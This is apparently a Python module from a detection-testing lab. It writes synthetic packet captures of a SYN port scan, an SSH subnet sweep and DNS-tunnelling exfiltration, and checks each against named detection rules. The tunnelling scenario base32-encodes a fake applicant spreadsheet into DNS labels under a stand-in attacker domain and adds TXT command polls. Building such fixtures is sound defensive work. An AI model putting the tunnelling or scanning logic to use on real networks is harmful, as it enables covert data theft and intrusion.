"""Network reconnaissance and DNS tunnelling, as a capture point on the city LAN records them.

- ``port-scan``: a compromised workstation SYN-scans forty common service ports of the records
  server (a few open, most closed, some filtered).
- ``host-sweep``: the same kind of host sweeps a /24 for SSH, one SYN per address.
- ``dns-tunnelling``: a workstation exfiltrates a file through DNS: base32 chunks in long labels
  of A queries, and TXT queries for random subdomains polling for commands, all under one
  attacker-controlled domain, through the city resolver.

Packets are stamped from the moment of play onward (a few hundred milliseconds in all).
"""

from __future__ import annotations

import base64
import hashlib
from datetime import UTC, datetime
from typing import ClassVar

from scapy.packet import Packet

from lab.craft.packets import dns_exchange, syn_probe
from lab.craft.timeline import wait_until
from lab.scenarios.base import Scenario, Stage

PORT_SCAN = "4600bfc8-7eb4-54d0-a062-5478e47d7239"  # rules/network-port-scan.yml
HOST_SWEEP = "5f21ad3d-efc9-595f-a7fa-b157edfb9599"  # rules/network-host-sweep.yml
DNS_LONG_LABEL = "5ba1dc8d-740d-5270-8c53-379e4e4aba13"  # rules/dns-tunnelling-long-label.yml
DNS_MANY_NAMES = "83b46409-988a-598d-b31b-6d6bc10bd83e"  # rules/dns-tunnelling-many-names.yml
DNS_TXT_RANDOM = "d8e54545-2c1a-5ac9-9ecb-06774bf1e7aa"  # rules/dns-txt-query-to-rare-domain.yml

#: Service ports a scanner tries first (well-known backdoor ports left out: they have a rule).
SCAN_PORTS = (
    21, 22, 23, 25, 53, 80, 88, 110, 111, 135, 139, 143, 389, 443, 445, 465, 587, 636, 993, 995,
    1433, 1521, 1723, 2049, 3128, 3306, 3389, 5060, 5432, 5900, 5985, 6379, 8000, 8080, 8443,
    8888, 9090, 9200, 11211, 27017,
)  # fmt: skip
OPEN_PORTS = frozenset({22, 80, 443, 5432})
FILTERED_PORTS = frozenset({135, 139, 445, 3389})
RESOLVER = "10.20.0.53"
TUNNEL_DOMAIN = "cdn-metrics.net"
#: What the tunnel carries: a spreadsheet of permit applicants, base32 in DNS labels.
PAYLOAD = (
    "applicant_id,name,id_card,phone\n"
    + "".join(f"{100200 + i},Applicant {i},3502031990{i:08d},1385920{i:04d}\n" for i in range(24))
).encode()


class PortScan(Scenario):
    """One source, forty ports of one host, within a second."""

    name: ClassVar[str] = "port-scan"
    title: ClassVar[str] = "SYN scan of the records server's service ports"
    techniques: ClassVar[tuple[str, ...]] = ("T1046",)
    expects: ClassVar[tuple[str, ...]] = (PORT_SCAN,)

    scanner = "10.20.50.66"
    target = "10.20.0.15"

    def play(self, stage: Stage) -> None:
        t0 = stage.now().timestamp()
        packets: list[Packet] = []
        for i, port in enumerate(SCAN_PORTS):
            state = (
                "open" if port in OPEN_PORTS else "filtered" if port in FILTERED_PORTS else "closed"
            )
            packets += syn_probe(
                t0 + i * 0.004, self.scanner, self.target, 58211, port, state=state
            )
        stage.pcap("lan-core.pcap", sorted(packets, key=lambda p: float(p.time)))
        stage.note(
            f"{len(SCAN_PORTS)} ports of {self.target} probed from {self.scanner} "
            f"({len(OPEN_PORTS)} open)"
        )


class HostSweep(Scenario):
    """One source, port 22 on forty addresses of a /24, within a second."""

    name: ClassVar[str] = "host-sweep"
    title: ClassVar[str] = "Sweep of a city subnet for SSH"
    techniques: ClassVar[tuple[str, ...]] = ("T1018", "T1046")
    expects: ClassVar[tuple[str, ...]] = (HOST_SWEEP,)

    scanner = "10.20.50.66"
    subnet = "10.20.7."
    hosts = 40

    def play(self, stage: Stage) -> None:
        t0 = stage.now().timestamp()
        packets: list[Packet] = []
        for i in range(1, self.hosts + 1):
            # Every fifth address is a live server with sshd; the rest of the range is empty.
            state = "open" if i % 5 == 0 else "filtered"
            packets += syn_probe(
                t0 + i * 0.003, self.scanner, f"{self.subnet}{i}", 41733, 22, state=state
            )
        stage.pcap("lan-core.pcap", sorted(packets, key=lambda p: float(p.time)))
        stage.note(f"port 22 probed on {self.hosts} addresses of {self.subnet}0/24")


def tunnel_chunks(payload: bytes, size: int = 35) -> list[str]:
    """The payload as lowercase, unpadded base32 labels of ``size`` bytes each (56 chars)."""
    return [
        base64.b32encode(payload[i : i + size]).decode().rstrip("=").lower()
        for i in range(0, len(payload), size)
    ]


def poll_label(session: str, n: int) -> str:
    """A random-looking 20-character label, as a tunnel client's command poll uses."""
    return hashlib.sha256(f"{session}:{n}".encode()).hexdigest()[:20]


class DnsTunnelling(Scenario):
    """Upload chunks (long labels) and command polls (TXT, random names) via the resolver."""

    name: ClassVar[str] = "dns-tunnelling"
    title: ClassVar[str] = "Data exfiltrated through DNS queries to an outside domain"
    techniques: ClassVar[tuple[str, ...]] = ("T1048.003", "T1071.004")
    expects: ClassVar[tuple[str, ...]] = (DNS_LONG_LABEL, DNS_TXT_RANDOM, DNS_MANY_NAMES)

    client = "10.20.31.140"
    polls = 30

    def play(self, stage: Stage) -> None:
        start = stage.now()
        t0 = start.timestamp()
        packets: list[Packet] = []
        chunks = tunnel_chunks(PAYLOAD)
        step = 0
        for seq, chunk in enumerate(chunks):
            qname = f"{chunk}.{seq:03d}.u.{TUNNEL_DOMAIN}"
            packets += dns_exchange(
                t0 + step * 0.01,
                self.client,
                RESOLVER,
                30000 + step,
                qname,
                ident=0x4000 + step,
                answers=[("A", "198.18.0.1")],  # "ack": the tunnel server's fixed reply
            )
            step += 1
        for n in range(self.polls):
            qname = f"{poll_label('s7q2', n)}.c.{TUNNEL_DOMAIN}"
            packets += dns_exchange(
                t0 + step * 0.01,
                self.client,
                RESOLVER,
                30000 + step,
                qname,
                qtype="TXT",
                ident=0x4000 + step,
                answers=[("TXT", "nop")],
            )
            step += 1
        wait_until(datetime.fromtimestamp(float(packets[-1].time), UTC))
        stage.pcap("dns.pcap", packets)
        stage.note(
            f"{len(PAYLOAD)} bytes in {len(chunks)} long-label queries and {self.polls} TXT polls "
            f"to {TUNNEL_DOMAIN} from {self.client}"
        )


SCENARIOS: tuple[type[Scenario], ...] = (PortScan, HostSweep, DnsTunnelling)
